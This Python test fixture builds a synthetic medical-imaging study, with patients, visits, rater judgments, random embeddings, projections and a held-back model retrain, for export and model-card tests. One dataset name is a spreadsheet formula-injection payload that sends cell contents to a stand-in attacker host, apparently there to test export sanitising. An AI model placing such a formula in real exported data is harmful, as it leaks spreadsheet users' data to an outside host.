"""A study with versions written straight through the store API (no network trained):
images, patients, answers, and a version's embeddings, trend calls and projections made
up with a seeded generator. What the export and model-card tests read."""

from __future__ import annotations

import itertools
from dataclasses import dataclass

import numpy as np

from core.store import Answer, NewImage, Store

SYNTHETIC = "Synthetic cohort"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'  # a dataset name a sheet would run
PROJECTIONS = (("pca", 2), ("umap", 2), ("umap", 3))
METRICS = {
    "evaluated_on": "test",
    "tau_abnormal": 0.612,
    "macro_f1": 0.537,
    "n_judgments_standing": 5,
    "n_judgments_trained_on": 5,
    "trend_test_macro_f1": 0.444,
    "trend_test_pairs": 4,
}


@dataclass
class VersionStudy:
    location: str
    version: int  # embedded, trend calls and projections made, active
    model_id: int
    unscored_version: int  # a warm retrain held back, with no embeddings
    unscored_id: int
    images: int


def add_images(store: Store, patients: int, visits: int) -> None:
    """``patients`` patients with ``visits`` visits each, spread over two datasets (the
    synthetic cohort, marked as core.demo marks it, and one with a hostile name)."""
    synthetic = store.datasets.ensure(SYNTHETIC, source="core.synthetic seed=0")
    hostile = store.datasets.ensure(HOSTILE)
    with store.transaction():
        for p in range(patients):
            patient = store.patients.ensure(f"patient-{p}")
            for v in range(visits):
                store.images.add(
                    NewImage(
                        synthetic if p % 4 else hostile,
                        f"hash-{p}-{v}",
                        f"images/{p}-{v}.png",
                        32,
                        32,
                        ("train", "val", "test")[p % 3],
                        patient_id=patient,
                        visit_date=f"2024-{v + 1:02d}-15",
                        visit_index=v,
                        grade=v if p % 2 else None,
                    )
                )


def add_answers(store: Store) -> tuple[int, int]:
    """Two raters' answers: 5 standing (a repeat and a tie among them), one undone.
    Returns the two raters' ids."""
    ids = sorted(store.images.ids())
    chen, okafor = store.raters.ensure("Dr Chen"), store.raters.ensure("Dr Okafor")
    first = store.judgments.append(Answer(ids[0], ids[1], "left", chen))
    store.judgments.append(Answer(ids[2], ids[3], "right", chen))
    store.judgments.append(Answer(ids[4], ids[5], "left", chen))
    store.judgments.undo_last(chen)
    store.judgments.append(Answer(ids[1], ids[0], "right", chen, repeat_of=first))
    store.judgments.append(Answer(ids[6], ids[7], "equal", okafor))
    store.judgments.append(Answer(ids[8], ids[9], "left", okafor))
    return chen, okafor


def add_scored_version(store: Store, dims: int = 8, seed: int = 0) -> dict:
    """A version over every image in the store, as the worker's chain leaves one: its
    embeddings and severity, trend calls between consecutive visits, projections."""
    rng = np.random.default_rng(seed)
    config = {"method": "conpro", "image_size": 32, "dataset": None, "warm": {"steps": 25}}
    model = store.models.create("conpro", config, store.judgments.high_water_mark())
    store.models.finish(model["id"], "models/model-v1.pt", METRICS)
    rows = store.images.query()  # by patient and visit
    ids = [r["id"] for r in rows]
    store.embeddings.save(
        model["id"],
        ids,
        rng.normal(size=(len(ids), dims)).astype(np.float32),
        rng.normal(size=len(ids)),
        np.abs(rng.normal(size=len(ids))),
    )
    pairs = [(a, b) for a, b in itertools.pairwise(rows) if a["patient"] == b["patient"]]
    probabilities = rng.dirichlet(np.ones(3), size=len(pairs))
    store.embeddings.save_trends(
        model["id"],
        [
            (a["id"], b["id"], *map(float, p))
            for (a, b), p in zip(pairs, probabilities, strict=True)
        ],
    )
    for method, projection_dims in PROJECTIONS:
        coords = rng.normal(size=(len(ids), projection_dims))
        store.embeddings.save_projection(model["id"], method, ids, coords)
    store.models.chain_ready(model["id"])
    store.models.activate(model["id"])
    return store.models.get(model["id"])


def add_held_back_retrain(store: Store, parent: dict) -> dict:
    """A warm retrain of ``parent`` that the activation step held back (no embeddings
    kept for it here)."""
    model = store.models.create(
        "conpro", parent["config"], store.judgments.high_water_mark(), parent_id=parent["id"]
    )
    store.models.finish(
        model["id"],
        "models/model-v2.pt",
        {
            "tau_abnormal": 0.401,
            "vs_active_version": parent["version"],
            "vs_active": -0.081,
            "vs_active_low": -0.152,
            "vs_active_high": -0.013,
            "vs_active_patients": 9,
            "vs_active_answers": 3,
            "vs_active_tau": -0.07,
            "held_back": "worse than the active v1 on the same validation images",
        },
    )
    return store.models.get(model["id"])


def build_study(location: str, patients: int = 8, visits: int = 3, dims: int = 8) -> VersionStudy:
    with Store(location) as store:
        add_images(store, patients, visits)
        add_answers(store)
        scored = add_scored_version(store, dims)
        # an answer after the version's snapshot: no version counts it
        ids = sorted(store.images.ids())
        store.judgments.append(Answer(ids[10], ids[11], "left", store.raters.ensure("Dr Late")))
        unscored = add_held_back_retrain(store, scored)
        return VersionStudy(
            location,
            scored["version"],
            scored["id"],
            unscored["version"],
            unscored["id"],
            store.images.count(),
        )
